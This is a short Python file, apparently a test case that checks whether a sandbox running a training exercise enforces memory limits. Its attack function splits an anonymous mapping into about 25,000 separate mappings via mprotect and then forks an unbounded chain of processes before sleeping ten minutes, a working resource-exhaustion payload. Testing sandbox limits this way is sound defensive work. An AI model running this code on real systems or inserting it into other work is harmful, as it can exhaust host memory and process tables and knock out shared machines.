r"""Cuts its memory into 50,000 mappings and forks a chain: the kernel keeps records of each, for each ancestor.

Place: 01_grpo_by_hand/policy_loss
Said: it used [\d,]+ MB; at most \d+|no answer within
"""

import ctypes
import mmap
import os
import time

LIBC = ctypes.CDLL(None, use_errno=True)
PAGES = 50_000


def attack(*_, **__):
    cut = mmap.mmap(-1, PAGES * mmap.PAGESIZE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    start = ctypes.addressof(ctypes.c_char.from_buffer(cut))
    cut[0] = 1  # the records hang on a page that is there
    for page in range(0, PAGES, 2):
        LIBC.mprotect(ctypes.c_void_p(start + page * mmap.PAGESIZE), ctypes.c_size_t(mmap.PAGESIZE), mmap.PROT_READ)
    try:
        while not os.fork():
            pass
    except BlockingIOError:
        pass
    time.sleep(600)
